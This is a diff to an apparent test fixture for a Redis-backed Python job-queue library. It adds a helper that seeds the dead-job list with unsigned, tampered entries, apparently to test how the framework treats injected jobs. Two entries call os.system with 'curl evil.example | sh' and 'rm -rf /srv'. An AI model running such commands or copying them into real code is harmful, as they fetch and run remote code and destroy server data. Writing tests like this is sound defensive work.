@@ -4,12 +4,14 @@ from __future__ import annotations
 
 import json
 from collections.abc import Iterator
+from dataclasses import replace
 from typing import Any
 
 import redis
 
 from asok_core.backends.redis.keys import Keys
 from asok_core.job import Job
+from asok_core.job_text import to_text
 from asok_core.wire import Keyring, bury, seal
 from tests.conftest import SECRET_KEY
 
@@ -71,6 +73,19 @@ def letters(now: float, count: int, *, first: int = 5000, every: float = 95.0) -
             KEYRING,
         )
         yield bury(envelope, failed_at=failed_at, error=error, traceback=trace)
+
+
+def unsigned(client: redis.Redis) -> None:
+    """Dead jobs as the framework leaves them, and two of one id that somebody added."""
+    now = server_time(client)
+    jobs = [replace(job(n), id=job_id(n % 12)) for n in range(14)]
+    jobs[12] = replace(jobs[12], module="os", function="system", args=("curl evil.example | sh",))
+    jobs[13] = replace(
+        jobs[13], module="os", function="system", args=("rm -rf /srv",), id=job_id(13)
+    )
+    for at, each in enumerate(jobs):
+        text = json.loads(to_text(each)) | {"failed_at": now - 60 - at, "error": traceback(at)[0]}
+        client.rpush(KEYS.dead, json.dumps(text))
 
 
 def pending(client: redis.Redis, queue: str, count: int, *, first: int, age: float) -> None:
